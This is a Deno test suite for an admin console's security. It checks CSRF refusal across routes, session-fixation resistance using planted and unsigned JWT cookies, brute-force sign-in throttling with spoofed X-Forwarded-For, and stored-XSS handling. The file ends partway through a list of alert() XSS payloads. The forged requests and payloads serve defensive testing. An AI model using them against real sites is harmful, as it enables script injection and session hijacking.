/**
 * Security of the admin console (issue 5, "Security", the console part): CSRF refused on every
 * state-changing route, session fixation impossible (in one process and across two server
 * processes on one KV file), stored XSS from IdP-sent names impossible on every page that shows
 * them and formula-safe CSV exports, brute-force sign-in throttled per account and per address
 * (also under concurrency), and the console's routes in the tenant isolation matrix with the
 * read-only role.
 *
 * In-process tests go through `app.request()` (the test app of `tests/admin_helpers.ts`, with the
 * client's socket address passed as Deno.serve would); the cross-process test starts real
 * servers with `tests/reliability/_server.ts`.
 * @module
 */
import assert from "node:assert/strict";
import { type AdminTestApp, createAdminTestApp, expectHtml, PASSWORD } from "../admin_helpers.ts";
import {
  cli,
  diffSnapshots,
  join,
  provision,
  report,
  REQUEST_LOG_KINDS,
  snapshotKv,
  withKv,
  withServers,
  withTempDir,
} from "./_server.ts";
import {
  type ConsoleRequest,
  consoleRequest,
  createConsoleAdmin,
  csrfOf,
  httpConsole,
  sessionCookieOf,
  sessionIdOf,
  settle,
} from "./_console.ts";
import {
  attributeValues,
  isFormula,
  markupProblems,
  parseCsv,
  tokenize,
  visibleText,
} from "./_markup.ts";
import { createSetupLink } from "../../lib/auth/admin.ts";
import { SIGN_IN_LIMITS } from "../../lib/store/sign_in_throttle.ts";
import { createSession } from "../../lib/auth/sessions.ts";
import { listAdminSessions } from "../../lib/store/admin_sessions.ts";
import { getAdmin } from "../../lib/store/admins.ts";
import { createIdp, createTenant, createToken, listTokens } from "../../lib/store/tenants.ts";
import { DEFAULT_MIRRORING, setMirroring } from "../../lib/store/mirroring.ts";
import { keys } from "../../lib/store/keys.ts";
import { getMirroringJob } from "../../lib/store/mirroring_job.ts";

const ENTERPRISE = "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User";
const CUSTOM = "urn:example:params:scim:schemas:extension:xss:2.0:User";
const CORE_USER = "urn:ietf:params:scim:schemas:core:2.0:User";

/** A token of the same length and alphabet that is not the session's. */
function wrongToken(token: string): string {
  const other = [...token].map((ch) => ch === "A" ? "B" : "A").join("");
  return other === token ? "C".repeat(token.length) : other;
}

/** Waits for a re-apply job started by a test to finish (it runs on after its response). */
async function mirroringJobDone(app: AdminTestApp): Promise<void> {
  const deadline = Date.now() + 10_000;
  while (Date.now() < deadline) {
    const job = await getMirroringJob(app.kv, app.tenant.id);
    if (!job || job.state === "done") return;
    await new Promise((r) => setTimeout(r, 20));
  }
  throw new Error("the mirroring re-apply job did not finish");
}

// ---------------------------------------------------------------------------------------------
// CSRF
// ---------------------------------------------------------------------------------------------

interface Route {
  name: string;
  method?: string;
  path: string;
  form?: Record<string, string>;
  json?: unknown;
  /** Status of the genuine request (right Origin and token). */
  ok?: number;
  /** Starts a session, ending the one presented: its genuine request is sent signed out. */
  startsSession?: boolean;
}

Deno.test("CSRF: every state-changing console route refuses a missing, wrong or foreign token and a foreign or absent Origin, and changes nothing", async (t) => {
  await using app = await createAdminTestApp();
  const s = await app.signIn(app.superAdmin);
  // Another live session of the same admin: a real token, but not this session's.
  const other = await app.signIn(app.superAdmin);
  const idp = app.idp.id;
  const tokenId = (await listTokens(app.kv, app.tenant.id, idp))[0].id;
  const link = await createSetupLink(app.kv, app.tenant.id, app.origin, {
    role: "admin",
    createdBy: "test",
  });
  const setupPath = new URL(link.url).pathname;
  const rules = {
    field_0: "userName",
    sources_0: "userName",
    enabled_0: "on",
    field_1: "email",
    sources_1: "emails.value",
    enabled_1: "on",
  };
  const routes: Route[] = [
    {
      name: "sign in",
      path: "/admin/signin",
      form: { email: "viewer@acme.test", password: PASSWORD },
      ok: 303,
      startsSession: true,
    },
    {
      name: "setup link",
      path: setupPath,
      form: { email: "new@acme.test", password: PASSWORD, confirm: PASSWORD },
      ok: 303,
      startsSession: true,
    },
    { name: "new IdP", path: "/admin/idps", form: { name: "Evil", kind: "okta" }, ok: 303 },
    { name: "new token", path: `/admin/idps/${idp}/tokens`, form: { name: "evil" }, ok: 201 },
    {
      name: "new token (JSON)",
      path: `/admin/api/idps/${idp}/tokens`,
      json: { name: "evil" },
      ok: 201,
    },
    {
      name: "revoke token",
      path: `/admin/idps/${idp}/tokens/${tokenId}/revoke`,
      form: { confirmed: "yes" },
      ok: 303,
    },
    { name: "save mirroring", path: "/admin/settings/mirroring", form: rules, ok: 303 },
    {
      name: "preview mirroring",
      path: "/admin/settings/mirroring/preview",
      form: rules,
      ok: 200,
    },
    { name: "re-apply mirroring", path: "/admin/settings/mirroring/reapply", form: {}, ok: 303 },
    {
      name: "setup link for a new admin",
      path: "/admin/admins/links",
      form: { email: "", role: "super_admin" },
      ok: 201,
    },
    {
      name: "revoke an admin's sessions",
      path: `/admin/admins/${app.readOnly.id}/revoke-sessions`,
      form: { confirmed: "yes" },
      ok: 303,
    },
    {
      name: "remove an admin",
      path: `/admin/admins/${app.readOnly.id}/remove`,
      form: { confirmed: "yes" },
      ok: 303,
    },
    { name: "sign out", path: "/admin/signout", form: {}, ok: 303 },
    // Methods no console route takes: refused before routing, never reach a 404 page.
    { name: "DELETE an IdP", method: "DELETE", path: `/admin/idps/${idp}` },
    { name: "PUT a user", method: "PUT", path: "/admin/users/x", json: { userName: "x" } },
    { name: "PATCH the API", method: "PATCH", path: "/admin/api/events", json: {} },
  ];

  const token = (where: "body" | "header" | "query", value = s.csrf) => ({
    token: value,
    in: where,
  });
  /** How each route's genuine request carries its token. */
  const carrier = (r: Route) => (r.json !== undefined ? "header" : "body") as "body" | "header";
  const variants: [string, (r: Route) => Partial<ConsoleRequest>][] = [
    ["no token", () => ({})],
    ["a wrong token", (r) => ({ csrf: token(carrier(r), wrongToken(s.csrf)) })],
    ["another session's token", (r) => ({ csrf: token(carrier(r), other.csrf) })],
    ["an empty token", (r) => ({ csrf: token(carrier(r), "") })],
    ["the token in the query string only", () => ({ csrf: token("query") })],
    [
      "the token in a text/plain body (form enctype=text/plain)",
      (r) => ({
        form: undefined,
        json: undefined,
        raw: {
          type: "text/plain",
          body: Object.entries({ ...(r.form ?? {}), _csrf: s.csrf }).map(([k, v]) => `${k}=${v}`)
            .join("\r\n"),
        },
      }),
    ],
    ["a foreign Origin", (r) => ({ csrf: token(carrier(r)), origin: "http://evil.example" })],
    [
      "another tenant's Origin",
      (r) => ({ csrf: token(carrier(r)), origin: "http://globex.localhost" }),
    ],
    [
      "the same host on another scheme",
      (r) => ({ csrf: token(carrier(r)), origin: "https://acme.localhost" }),
    ],
    ["Origin: null", (r) => ({ csrf: token(carrier(r)), origin: "null" })],
    ["no Origin", (r) => ({ csrf: token(carrier(r)), origin: null })],
    [
      "no Origin, Sec-Fetch-Site: cross-site",
      (r) => ({ csrf: token(carrier(r)), origin: null, secFetchSite: "cross-site" }),
    ],
    [
      "no Origin, Sec-Fetch-Site: same-site (a sibling subdomain)",
      (r) => ({ csrf: token(carrier(r)), origin: null, secFetchSite: "same-site" }),
    ],
  ];
  // JSON endpoints: the token belongs in the header, not in the JSON body.
  const jsonVariants: [string, (r: Route) => Partial<ConsoleRequest>][] = [
    ["the token in the JSON body instead of the header", () => ({ csrf: token("body") })],
  ];

  const problems: string[] = [];
  let refused = 0;
  const refuse = async (r: Route, label: string, req: ConsoleRequest) => {
    const before = await snapshotKv(app.kv);
    const res = await settle(await consoleRequest(app, req));
    const after = await snapshotKv(app.kv);
    refused++;
    const what = `${r.name} (${r.method ?? "POST"} ${r.path}) with ${label}`;
    if (res.status !== 403) problems.push(`${what}: ${res.status} ${res.text.slice(0, 120)}`);
    const diff = diffSnapshots(before, after, 5);
    if (diff.length) problems.push(`${what}: the store changed:\n  ${diff.join("\n  ")}`);
    if (res.h.getSetCookie().length) problems.push(`${what}: set a cookie`);
    if (/weft_scim_|weft_setup_/.test(res.text)) problems.push(`${what}: a secret in the page`);
  };

  await t.step("signed in: each route × each forged variant → 403, store unchanged", async () => {
    for (const r of routes) {
      const base: ConsoleRequest = {
        method: r.method,
        path: r.path,
        cookie: s.cookie,
        form: r.form,
        json: r.json,
      };
      for (const [label, v] of [...variants, ...(r.json !== undefined ? jsonVariants : [])]) {
        await refuse(r, label, { ...base, ...v(r) });
      }
    }
  });

  await t.step(
    "signed out: sign-in and setup links refuse a foreign or absent Origin",
    async () => {
      for (const r of routes.filter((r) => r.name === "sign in" || r.name === "setup link")) {
        for (
          const [label, origin, site] of [
            ["a foreign Origin", "http://evil.example", undefined],
            ["another tenant's Origin", "http://globex.localhost", undefined],
            ["Origin: null", "null", undefined],
            ["no Origin", null, undefined],
            ["no Origin, Sec-Fetch-Site: cross-site", null, "cross-site"],
          ] as const
        ) {
          await refuse(r, `no session and ${label}`, {
            path: r.path,
            form: r.form,
            origin,
            secFetchSite: site,
          });
        }
      }
    },
  );

  await t.step("the genuine requests pass (the refusals were the CSRF checks)", async () => {
    // The session is still alive: no refused sign-out or revocation took effect.
    await expectHtml(await app.admin("/admin", { as: s }));
    for (const r of routes.filter((r) => r.ok)) {
      const res = await settle(
        await consoleRequest(app, {
          path: r.path,
          cookie: r.startsSession ? undefined : s.cookie,
          form: r.form,
          json: r.json,
          csrf: r.startsSession ? undefined : token(carrier(r)),
        }),
      );
      assert.equal(res.status, r.ok, `${r.name}: ${res.status} ${res.text.slice(0, 300)}`);
    }
    // The sign-out went through: the session is gone.
    assert.equal((await app.admin("/admin", { as: s })).status, 302);
    // A same-origin fetch without Origin (Sec-Fetch-Site: same-origin) is accepted by design.
    const fresh = await app.signIn(app.superAdmin);
    const res = await consoleRequest(app, {
      path: "/admin/settings/mirroring/preview",
      cookie: fresh.cookie,
      form: rules,
      csrf: token("body", fresh.csrf),
      origin: null,
      secFetchSite: "same-origin",
    });
    await expectHtml(res, 200);
    await mirroringJobDone(app);
  });

  report(`CSRF: ${refused} forged requests on ${routes.length} routes, all refused`);
  assert.deepEqual(problems, [], `\n${problems.slice(0, 30).join("\n")}`);
});

// ---------------------------------------------------------------------------------------------
// Session fixation and revocation
// ---------------------------------------------------------------------------------------------

/** Signs in over HTTP with the password (as a browser would), carrying `cookie` if given. */
async function passwordSignIn(
  app: AdminTestApp,
  email: string,
  options: { cookie?: string; csrf?: string; ip?: string; password?: string } = {},
) {
  const res = await consoleRequest(app, {
    path: "/admin/signin",
    cookie: options.cookie,
    form: { email, password: options.password ?? PASSWORD },
    csrf: options.csrf ? { token: options.csrf, in: "body" } : undefined,
    ip: options.ip,
  });
  const cookie = sessionCookieOf(res);
  return { ...(await settle(res)), cookie };
}

/** The CSRF token a signed-in page hands a browser. */
async function pageCsrf(app: AdminTestApp, cookie: string): Promise<string> {
  return csrfOf(
    await expectHtml(
      await app.admin("/admin/settings/mirroring", {
        as: { cookie, csrf: "" },
      }),
    ),
  );
}

/** Whether a cookie is accepted: a page, the JSON API and a form post (with `csrf`). */
async function accepted(app: AdminTestApp, cookie: string, csrf = ""): Promise<boolean[]> {
  const page = await app.admin("/admin/users", { as: { cookie, csrf } });
  await page.body?.cancel();
  const api = await app.admin("/admin/api/events", { as: { cookie, csrf } });
  await api.body?.cancel();
  const post = await app.admin("/admin/settings/mirroring/preview", {
    as: { cookie, csrf },
    form: { field_0: "userName", sources_0: "userName", enabled_0: "on" },
  });
  // A read-only admin's session and token are accepted, then the role check refuses the change.
  const postText = await post.text();
  const postOk = post.status === 200 ||
    (post.status === 403 && /Only a super admin/.test(postText));
  return [page.status === 200, api.status === 200, postOk];
}

const REFUSED = [false, false, false];
const ACCEPTED = [true, true, true];

/** An unsigned JWT (`alg: none`) with the given claims. */
function unsignedJwt(claims: Record<string, unknown>): string {
  const b64 = (o: unknown) =>
    btoa(JSON.stringify(o)).replaceAll("+", "-").replaceAll("/", "_").replace(/=+$/, "");
  return `${b64({ alg: "none", typ: "JWT" })}.${b64(claims)}.`;
}

Deno.test("Session fixation: no session before sign-in, a fresh one at sign-in, a planted cookie is never adopted", async (t) => {
  await using app = await createAdminTestApp();
  await t.step("nothing before authentication sets a session cookie", async () => {
    const link = await createSetupLink(app.kv, app.tenant.id, app.origin, {
      role: "admin",
      createdBy: "test",
    });
    const answers = [
      await consoleRequest(app, { path: "/admin/signin" }),
      await consoleRequest(app, { path: "/admin" }),
      await consoleRequest(app, { path: "/admin/users/x" }),
      await consoleRequest(app, { path: new URL(link.url).pathname }),
      await consoleRequest(app, {
        path: "/admin/signin",
        form: { email: "root@acme.test", password: "wrong password" },
      }),
      await consoleRequest(app, { path: "/admin/signin", form: { email: "" } }),
    ];
    for (const res of answers) {
      assert.deepEqual(res.headers.getSetCookie(), [], `${res.status} ${res.url}`);
      await res.body?.cancel();
    }
  });

  await t.step("attacker-chosen cookie values are refused and replaced at sign-in", async () => {
    const victim = await app.signIn(app.superAdmin);
    const victimSession = sessionIdOf(victim.cookie);
    const otherTenant = await createTenant(app.kv, { subdomain: "globex" });
    const globexAdmin = await app.addAdmin(
      "boss@globex.test",
      "super_admin",
      otherTenant.id,
      "http://globex.localhost",
    );
    const globex = await app.signIn(globexAdmin);
    const planted = [
      "weft_session=attacker-chosen-session-id",
      `weft_session=${victimSession}`,
      // Claims of a real session of this tenant, without a signature.
      `weft_session=${
        unsignedJwt({
          tid: app.tenant.id,
          sub: app.superAdmin.id,
          jti: victimSession,
          exp: Math.floor(Date.now() / 1000) + 3600,
        })
      }`,
      // Signed, but by another tenant.
      globex.cookie,
      // Expired: a session started nine hours ago.
      `weft_session=${
        (await createSession(
          app.kv,
          app.superAdmin,
          { ip: "x", userAgent: "x" },
          Date.now() -
            9 * 3600_000,
        )).jwt
      }`,
    ];
    for (const cookie of planted) {
      assert.deepEqual(await accepted(app, cookie), REFUSED, `planted ${cookie.slice(0, 60)}`);
      const signIn = await passwordSignIn(app, "root@acme.test", { cookie });
      assert.equal(signIn.status, 303, signIn.text.slice(0, 200));
      assert.ok(signIn.cookie, "sign-in sets a session cookie");
      assert.notEqual(signIn.cookie, cookie);
      assert.notEqual(sessionIdOf(signIn.cookie!), victimSession);
      // The planted value is still worthless; the issued one works.
      assert.deepEqual(await accepted(app, cookie), REFUSED, `after sign-in: ${cookie}`);
      const csrf = await pageCsrf(app, signIn.cookie!);
      assert.deepEqual(await accepted(app, signIn.cookie!, csrf), ACCEPTED);
    }
  });

  await t.step(
    "an attacker's own live session planted in the victim's browser is not upgraded by the victim's sign-in",
    async () => {
      // The attacker is the read-only admin; the victim, the super admin, signs in from the
      // browser that holds the attacker's cookie (the sign-in form carries that session's token).
      const attacker = await app.signIn(app.readOnly);
      const signIn = await passwordSignIn(app, "root@acme.test", {
        cookie: attacker.cookie,
        csrf: attacker.csrf,
      });
      assert.equal(signIn.status, 303, signIn.text.slice(0, 200));
      assert.ok(signIn.cookie);
      assert.notEqual(sessionIdOf(signIn.cookie!), sessionIdOf(attacker.cookie));
      // The planted session ended with the sign-in: the victim's rights did not move into it,
      // and the attacker cannot use it any more.
      const admins = await app.admin("/admin/admins", { as: attacker });
      assert.equal(admins.status, 302);
      await admins.body?.cancel();
      assert.equal(await liveSession(app, sessionIdOf(attacker.cookie)), false);
      // The victim's session has its own CSRF token; the attacker's token does not work with it.
      const victimCsrf = await pageCsrf(app, signIn.cookie!);
      assert.notEqual(victimCsrf, attacker.csrf);
      const forged = await app.admin("/admin/idps", {
        as: { cookie: signIn.cookie!, csrf: attacker.csrf },
        form: { name: "planted", kind: "okta" },
      });
      await expectHtml(forged, 403);
      await expectHtml(
        await app.admin("/admin/admins", { as: { cookie: signIn.cookie!, csrf: victimCsrf } }),
      );
    },
  );

  await t.step("each sign-in is a new session with its own CSRF token", async () => {
    const a = await passwordSignIn(app, "root@acme.test");
    const b = await passwordSignIn(app, "root@acme.test");
    assert.notEqual(sessionIdOf(a.cookie!), sessionIdOf(b.cookie!));
    const [ca, cb] = [await pageCsrf(app, a.cookie!), await pageCsrf(app, b.cookie!)];
    assert.notEqual(ca, cb);
    assert.deepEqual(await accepted(app, a.cookie!, cb), [true, true, false]);
    assert.deepEqual(await accepted(app, a.cookie!, ca), ACCEPTED);
  });

  await t.step(
    "an account made through a setup link starts a fresh session, not the planted one",
    async () => {
      const planted = await app.signIn(app.readOnly);
      const link = await createSetupLink(app.kv, app.tenant.id, app.origin, {
        role: "super_admin",
        createdBy: "test",
      });
      const res = await consoleRequest(app, {
        path: new URL(link.url).pathname,
        cookie: planted.cookie,
        form: { email: "fresh@acme.test", password: PASSWORD, confirm: PASSWORD },
        csrf: { token: planted.csrf, in: "body" },
      });
      assert.equal(res.status, 303, await res.clone().text());
      const cookie = sessionCookieOf(res)!;
      await res.body?.cancel();
      assert.ok(cookie);
      assert.notEqual(sessionIdOf(cookie), sessionIdOf(planted.cookie));
      // The planted session ended: the browser holds only the new account's session.
      assert.equal(await liveSession(app, sessionIdOf(planted.cookie)), false);
    },
  );

  await t.step("sign-out, revocation and removal end a session at once", async () => {
    // Sign-out.
    const mine = await passwordSignIn(app, "root@acme.test");
    const csrf = await pageCsrf(app, mine.cookie!);
    assert.deepEqual(await accepted(app, mine.cookie!, csrf), ACCEPTED);
    const out = await app.admin("/admin/signout", {
      as: { cookie: mine.cookie!, csrf },
      form: {},
    });
    assert.equal(out.status, 303);
    assert.match(out.headers.getSetCookie().join(";"), /weft_session=;/);
    assert.deepEqual(await accepted(app, mine.cookie!, csrf), REFUSED);
    // A super admin revokes the read-only admin's sessions: every one of them ends.
    const viewer1 = await passwordSignIn(app, "viewer@acme.test", { ip: "192.0.2.10" });
    const viewer2 = await app.signIn(app.readOnly);
    const root = await app.signIn(app.superAdmin);
    const revoke = await app.admin(`/admin/admins/${app.readOnly.id}/revoke-sessions`, {
      as: root,
      form: { confirmed: "yes" },
    });
    assert.equal(revoke.status, 303);
    assert.deepEqual(await accepted(app, viewer1.cookie!), REFUSED);
    assert.deepEqual(await accepted(app, viewer2.cookie, viewer2.csrf), REFUSED);
    assert.deepEqual(await listAdminSessions(app.kv, app.tenant.id, app.readOnly.id), []);
    // Removal: the removed admin's live session ends with the account.
    const viewer3 = await app.signIn(app.readOnly);
    assert.deepEqual(await accepted(app, viewer3.cookie, viewer3.csrf), ACCEPTED);
    const removed = await app.admin(`/admin/admins/${app.readOnly.id}/remove`, {
      as: root,
      form: { confirmed: "yes" },
    });
    assert.equal(removed.status, 303);
    assert.deepEqual(await accepted(app, viewer3.cookie, viewer3.csrf), REFUSED);
    assert.equal(await getAdmin(app.kv, app.tenant.id, app.readOnly.id), null);
  });
});

Deno.test({
  name:
    "Sessions across two server processes on one KV file: sign-out, console and CLI revocation end a session everywhere at once; the sign-in throttle is shared",
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    await withTempDir(async (dir) => {
      const kvPath = join(dir, "weft.kv");
      const p = await provision(kvPath, "sess");
      await withKv(kvPath, async (kv) => {
        await createConsoleAdmin(kv, p.tenant.id, "root@sess.test", "super_admin", PASSWORD);
        await createConsoleAdmin(kv, p.tenant.id, "viewer@sess.test", "admin", PASSWORD);
        await createConsoleAdmin(kv, p.tenant.id, "target@sess.test", "admin", PASSWORD);
      });
      await withServers(
        [{ kvPath, tenant: "sess" }, { kvPath, tenant: "sess" }],
        async ([a, b]) => {
          const signIn = async (origin: string, email: string, cookie?: string) => {
            const res = await httpConsole(origin, {
              path: "/admin/signin",
              cookie,
              form: { email, password: PASSWORD },
            });
            assert.equal(res.status, 303, `sign-in on ${origin}: ${res.text.slice(0, 300)}`);
            assert.ok(res.cookie, "a session cookie");
            return res.cookie!;
          };
          const works = async (origin: string, cookie: string) => {
            const res = await httpConsole(origin, { path: "/admin/users", cookie });
            return res.status === 200;
          };
          const csrfAt = async (origin: string, cookie: string) =>
            csrfOf((await httpConsole(origin, { path: "/admin/settings/mirroring", cookie })).text);

          // Sign in on A; the cookie works on B; sign out on B; refused on both at once.
          const root = await signIn(a.origin, "root@sess.test");
          assert.ok(await works(a.origin, root) && await works(b.origin, root));
          const out = await httpConsole(b.origin, {
            path: "/admin/signout",
            cookie: root,
            form: {},
            csrf: { token: await csrfAt(b.origin, root), in: "body" },
          });
          assert.equal(out.status, 303, out.text.slice(0, 200));
          assert.equal(await works(a.origin, root), false, "signed out on B, still in on A");
          assert.equal(await works(b.origin, root), false);

          // Fixation across processes: the signed-out cookie is still in the browser when the
          // admin signs in again on the other process; a new session is issued, the old stays dead.
          const again = await signIn(a.origin, "root@sess.test", root);
          assert.notEqual(sessionIdOf(again), sessionIdOf(root));
          assert.equal(await works(b.origin, root), false);
          assert.ok(await works(b.origin, again));

          // The super admin on A revokes the viewer's sessions; the viewer on B is out at once.
          const viewer = await signIn(b.origin, "viewer@sess.test");
          assert.ok(await works(a.origin, viewer));
          const revoke = await httpConsole(a.origin, {
            path: `/admin/admins/${await adminIdOf(
              kvPath,
              p.tenant.id,
              "viewer@sess.test",
            )}/revoke-sessions`,
            cookie: again,
            form: { confirmed: "yes" },
            csrf: { token: await csrfAt(a.origin, again), in: "body" },
          });
          assert.equal(revoke.status, 303, revoke.text.slice(0, 200));
          assert.equal(await works(b.origin, viewer), false, "revoked on A, still in on B");
          assert.equal(await works(a.origin, viewer), false);

          // The operator CLI (a third process) revokes: out on both servers at once.
          const viewer2 = await signIn(a.origin, "viewer@sess.test");
          assert.ok(await works(b.origin, viewer2));
          const said = await cli(
            kvPath,
            "admin",
            "revoke-sessions",
            "--tenant",
            "sess",
            "--email",
            "viewer@sess.test",
          );
          assert.match(said, /Revoked 1 session/);
          assert.equal(await works(a.origin, viewer2), false);
          assert.equal(await works(b.origin, viewer2), false);

          // Wrong passwords alternating between the processes share one budget per account
          // and address.
          const statuses: number[] = [];
          for (let i = 0; i < SIGN_IN_LIMITS.pair.free; i++) {
            const res = await httpConsole(i % 2 ? b.origin : a.origin, {
              path: "/admin/signin",
              form: { email: "target@sess.test", password: `wrong ${i}` },
            });
            statuses.push(res.status);
          }
          const right = await httpConsole(b.origin, {
            path: "/admin/signin",
            form: { email: "target@sess.test", password: PASSWORD },
          });
          statuses.push(right.status);
          assert.deepEqual(statuses, [...Array(SIGN_IN_LIMITS.pair.free).fill(401), 429]);
          assert.ok(Number(right.h.get("retry-after")) > 0);
          assert.equal(right.cookie, null);
        },
      );
    });
  },
});

/** Whether a console session record still exists. */
async function liveSession(app: AdminTestApp, sessionId: string): Promise<boolean> {
  return (await app.kv.get(keys.adminSession(app.tenant.id, sessionId))).versionstamp !== null;
}

async function adminIdOf(kvPath: string, tenantId: string, email: string): Promise<string> {
  return await withKv(kvPath, async (kv) => {
    const id = (await kv.get<string>(keys.adminByEmail(tenantId, email))).value;
    assert.ok(id, `admin ${email}`);
    return id;
  });
}

// ---------------------------------------------------------------------------------------------
// Brute-force sign-in
// ---------------------------------------------------------------------------------------------

/** One sign-in attempt from a socket address; the status, Retry-After and whether it set a cookie. */
async function attempt(
  app: AdminTestApp,
  email: string,
  password: string,
  ip: string,
  headers: Record<string, string> = {},
) {
  const res = await consoleRequest(app, {
    path: "/admin/signin",
    form: { email, password },
    ip,
    headers,
  });
  const cookie = sessionCookieOf(res);
  const text = await res.text();
  if (res.status === 429) {
    // The throttled page is the console's page, with a Retry-After within the window.
    assert.match(res.headers.get("content-type") ?? "", /^text\/html/);
    assert.match(text, /Too many failed attempts/);
    const after = Number(res.headers.get("retry-after"));
    assert.ok(after >= 1 && after <= SIGN_IN_LIMITS.windowSeconds, `Retry-After ${after}`);
    assert.match(res.headers.get("cache-control") ?? "", /no-store/);
  }
  return { status: res.status, cookie };
}

function count(statuses: number[]): Record<number, number> {
  const out: Record<number, number> = {};
  for (const s of statuses) out[s] = (out[s] ?? 0) + 1;
  return out;
}

/** Waits until at least `ms` remain in the current sign-in throttle window. */
async function awayFromWindowEdge(ms = 5_000): Promise<void> {
  const w = SIGN_IN_LIMITS.windowSeconds * 1000;
  const left = w - (Date.now() % w);
  if (left < ms) await new Promise((r) => setTimeout(r, left + 200));
}

Deno.test("Brute-force sign-in: failures from other addresses never lock the owner out where they signed in before", async () => {
  await using app = await createAdminTestApp();
  await awayFromWindowEdge();
  const home = "198.51.100.10";
  // The owner has signed in from home before: that address is known for the account.
  assert.equal((await attempt(app, "viewer@acme.test", PASSWORD, home)).status, 303);
  // An attacker guesses from many other addresses, more than the account's free budget.
  const statuses: number[] = [];
  const guesses = SIGN_IN_LIMITS.account.free + 5;
  for (let i = 0; i < guesses; i++) {
    statuses.push(
      (await attempt(app, "viewer@acme.test", `guess ${i}`, `203.0.113.${i + 1}`)).status,
    );
  }
  // The free budget is evaluated, then the account waits for addresses it does not know.
  assert.deepEqual(statuses.slice(0, SIGN_IN_LIMITS.account.free), [
    ...Array(SIGN_IN_LIMITS.account.free).fill(401),
  ]);
  assert.ok(statuses.slice(SIGN_IN_LIMITS.account.free).every((s) => s === 429), `${statuses}`);
  // Even the right password waits at an address the account never signed in from…
  const stranger = await attempt(app, "VIEWER@acme.test ", PASSWORD, "192.0.2.200");
  assert.equal(stranger.status, 429);
  assert.equal(stranger.cookie, null, "no session while throttled");
  // …but the owner at home gets in, however many failures came from elsewhere.
  const owner = await attempt(app, "viewer@acme.test", PASSWORD, home);
  assert.equal(owner.status, 303);
  assert.ok(owner.cookie);
  // Another account from the attacker's addresses is not held by these failures.
  assert.equal((await attempt(app, "root@acme.test", PASSWORD, "203.0.113.1")).status, 303);
});

Deno.test("Brute-force sign-in: per account and address, the right password waits after 5 failures there; elsewhere it does not", async () => {
  await using app = await createAdminTestApp();
  await awayFromWindowEdge();
  const { free } = SIGN_IN_LIMITS.pair;
  const statuses: number[] = [];
  for (let i = 0; i < free; i++) {
    statuses.push((await attempt(app, "viewer@acme.test", `guess ${i}`, "198.51.100.7")).status);
  }
  const right = await attempt(app, "viewer@acme.test", PASSWORD, "198.51.100.7");
  statuses.push(right.status);
  assert.deepEqual(statuses, [...Array(free).fill(401), 429]);
  assert.equal(right.cookie, null);
  // From another address the account is within its budget: the right password works.
  assert.equal((await attempt(app, "viewer@acme.test", PASSWORD, "198.51.100.8")).status, 303);
});

Deno.test("Brute-force sign-in: IPv6 clients count by their /64 network", async () => {
  await using app = await createAdminTestApp();
  await awayFromWindowEdge();
  const { free } = SIGN_IN_LIMITS.pair;
  // Each guess from another address of one /64 (a client can pick any of 2^64).
  for (let i = 0; i < free; i++) {
    const r = await attempt(app, "viewer@acme.test", `guess ${i}`, `2001:db8:1:2::${i + 1}`);
    assert.equal(r.status, 401);
  }
  const same64 = await attempt(app, "viewer@acme.test", PASSWORD, "2001:db8:1:2:ffff::9");
  assert.equal(same64.status, 429, "another address of the same /64 is the same client");
  const other64 = await attempt(app, "viewer@acme.test", PASSWORD, "2001:db8:1:3::1");
  assert.equal(other64.status, 303, "another /64 is another client");
});

Deno.test("Brute-force sign-in: concurrent guesses on one account from many addresses get at most 2 × the account's budget evaluated", async () => {
  await using app = await createAdminTestApp();
  await awayFromWindowEdge();
  const n = 40;
  const results = await Promise.all(
    Array.from(
      { length: n },
      (_, i) => attempt(app, "root@acme.test", `guess ${i}`, `203.0.113.${i + 1}`),
    ),
  );
  const statuses = results.map((r) => r.status);
  const evaluated = statuses.filter((s) => s === 401).length;
  const budget = SIGN_IN_LIMITS.account.free;
  report(
    `sign-in brute force, one account: ${evaluated} of ${n} concurrent guesses evaluated (budget ${budget})`,
  );
  assert.deepEqual(
    Object.keys(count(statuses)).filter((s) => s !== "401" && s !== "429"),
    [],
    JSON.stringify(count(statuses)),
  );
  assert.ok(evaluated >= 1, "the first guesses are answered, not all throttled");
  assert.ok(
    evaluated <= 2 * budget,
    `${evaluated} of ${n} concurrent guesses were checked (budget ${budget})`,
  );
  // The account waits at an address it does not know, even for its own password.
  assert.equal((await attempt(app, "root@acme.test", PASSWORD, "192.0.2.77")).status, 429);
});

Deno.test("Brute-force sign-in: concurrent guesses over many accounts from one address (spoofed X-Forwarded-For) get at most 2 × the per-address limit evaluated", async () => {
  await using app = await createAdminTestApp();
  await awayFromWindowEdge();
  const n = 2 * SIGN_IN_LIMITS.perAddress;
  const ip = "203.0.113.250";
  // Every guess names another account and claims another address in X-Forwarded-For; proxies
  // are not trusted (the default), so all come from one socket address.
  const results = await Promise.all(
    Array.from({ length: n }, (_, i) =>
      attempt(app, `user${i}@acme.test`, "guess", ip, {
        "x-forwarded-for": `192.0.2.${i + 1}`,
      })),
  );
  const statuses = results.map((r) => r.status);
  const evaluated = statuses.filter((s) => s === 401).length;
  report(
    `sign-in brute force, one address: ${evaluated} of ${n} concurrent guesses over ${n} accounts evaluated (limit ${SIGN_IN_LIMITS.perAddress})`,
  );
  assert.deepEqual(
    Object.keys(count(statuses)).filter((s) => s !== "401" && s !== "429"),
    [],
    JSON.stringify(count(statuses)),
  );
  assert.ok(evaluated >= 1, "the first guesses are answered, not all throttled");
  assert.ok(
    evaluated <= 2 * SIGN_IN_LIMITS.perAddress,
    `${evaluated} of ${n} guesses were checked (limit ${SIGN_IN_LIMITS.perAddress} per address)`,
  );
  // The address is throttled even for a real admin's right password; another address is not.
  const blocked = await attempt(app, "root@acme.test", PASSWORD, ip);
  assert.equal(blocked.status, 429);
  assert.equal(blocked.cookie, null);
  const elsewhere = await attempt(app, "root@acme.test", PASSWORD, "198.51.100.99");
  assert.equal(elsewhere.status, 303);
});

// ---------------------------------------------------------------------------------------------
// Stored XSS from IdP-sent names
// ---------------------------------------------------------------------------------------------

/** Script payloads an IdP could send in any string; each names itself with an `xss` marker. */
const PAYLOADS = [
  `<script>alert("xss1")</script>`,
  `"><img src=x onerror=alert('xss2')>`,
  `javascript:alert('xss3')`,
  `</script><script>alert('xss4')</script>`,
  `' autofocus onfocus='alert("xss5")' x='`,
  `" autofocus onfocus="alert('xss6')" x="`,
  `<svg/onload=alert('xss7')>`,
  `<svg><script>alert('xss8')</script></svg>`,
  `<a href="javascript:alert('xss9')">xss9</a>`,
  `<iframe srcdoc="<script>alert('xss10')</script>"></iframe>`,
